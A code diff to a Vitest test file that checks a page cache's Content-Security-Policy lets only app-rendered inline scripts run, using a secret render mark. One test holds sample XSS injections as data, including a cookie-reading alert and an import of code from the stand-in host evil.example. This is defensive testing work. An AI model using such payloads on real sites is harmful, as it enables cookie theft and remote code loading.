@@ -1,7 +1,7 @@
 import { createHash } from 'node:crypto';
 import type { Request as ExpressRequest } from 'express';
 import { afterEach, describe, expect, it, vi } from 'vitest';
-import { policyForPage } from './csp';
+import { SCRIPT_MARK_HEADER } from './csp';
 import { expiresAtHeader } from '~/lib/page-expiry';
 import { PageCache, pageRequestOf, toCachedPage, type PageRequest } from './page-cache';
 
@@ -213,19 +213,64 @@ describe('PageCache', () => {
 
 describe('the CSP of a cached page', () => {
   const sha = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`;
+  const MARK = 'cmVuZGVyLW1hcmstMTIzNA==';
 
-  it('allows exactly its inline scripts by hash, not data blocks, not external scripts, and no nonce', async () => {
+  /** The inline scripts of `html` that a browser enforcing `policy` runs: those whose hash `script-src` lists. */
+  function scriptsAllowed(html: string, policy: string): string[] {
+    const scriptSrc = policy.split('; ').find((directive) => directive.startsWith('script-src ')) ?? '';
+    return [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)]
+      .filter(([, attributes]) => !/\bsrc=|application\/ld\+json/.test(attributes))
+      .map(([, , text]) => text)
+      .filter((text) => scriptSrc.split(' ').includes(sha(text)));
+  }
+
+  /** A page as the cache's render gives it: the scripts the app rendered carry the render's mark. */
+  function rendered(html: string, mark: string | null = MARK) {
+    const headers: Record<string, string> = { 'Content-Type': 'text/html; charset=utf-8' };
+    if (mark) headers[SCRIPT_MARK_HEADER] = mark;
+    return toCachedPage(new Response(html, { headers }));
+  }
+
+  it('allows the inline scripts the app rendered by hash, not data blocks, not external scripts, and no nonce', async () => {
     const html =
-      '<script>window.__a = 1;</script><script type="module">import("/assets/x.js");</script>' +
-      '<script type="application/ld+json">{"@type":"JobPosting"}</script><script src="/assets/y.js"></script>';
-    const { page: cached } = await toCachedPage(
-      new Response(html, { headers: { 'Content-Type': 'text/html; charset=utf-8' } }),
-    );
+      `<body><script nonce="${MARK}">window.__a = 1;</script>` +
+      `<script nonce="${MARK}" type="module">import("/assets/x.js");</script>` +
+      '<script type="application/ld+json">{"@type":"JobPosting"}</script><script src="/assets/y.js"></script></body>';
+    const { page: cached } = await rendered(html);
     const csp = cached.headers['content-security-policy'];
-    expect(csp).toBe(policyForPage(html));
     expect(csp).toContain(`script-src 'self' ${sha('window.__a = 1;')} ${sha('import("/assets/x.js");')}`);
     expect(csp).not.toContain(sha('{"@type":"JobPosting"}'));
     expect(csp).not.toContain('nonce');
     expect(csp).toContain("frame-ancestors 'none'");
+    // The mark is the render's secret: it is not served, neither in the HTML nor as a header.
+    expect(text(cached.body)).not.toContain(MARK);
+    expect(text(cached.body)).toContain('<script>window.__a = 1;</script>');
+    expect(cached.headers).not.toHaveProperty(SCRIPT_MARK_HEADER);
+  });
+
+  it('allows no script that reached the HTML another way (an injection), even one copying a real script', async () => {
+    const injected = [
+      '<script>alert(document.cookie)</script>',
+      '<script type="module">import("https://evil.example/x.js")</script>',
+      '<script nonce="guessed">alert(2)</script>',
+      '<script>window.__a = 1;alert(3)</script>',
+    ];
+    const html =
+      `<html><head><link rel="modulepreload" href="/assets/a.js"></head><body><article>${injected.join('')}</article>` +
+      `<script nonce="${MARK}">window.__a = 1;</script></body></html>`;
+    const { page: cached } = await rendered(html);
+    const served = text(cached.body);
+    const allowed = scriptsAllowed(served, cached.headers['content-security-policy']);
+    // The app's own script and the loader of its module hints (script-loading.ts) run; nothing injected does.
+    expect(allowed).toHaveLength(2);
+    expect(allowed[0]).toBe('window.__a = 1;');
+    expect(allowed[1]).toContain('"/assets/a.js"');
+    for (const script of injected) expect(served).toContain(script);
+  });
+
+  it('allows no inline script at all in a page rendered without a mark', async () => {
+    const { page: cached } = await rendered('<body><script>window.__a = 1;</script></body>', null);
+    expect(cached.headers['content-security-policy']).toMatch(/(?:^|; )script-src 'self'(?:;|$)/);
+    expect(scriptsAllowed(text(cached.body), cached.headers['content-security-policy'])).toEqual([]);
   });
 });
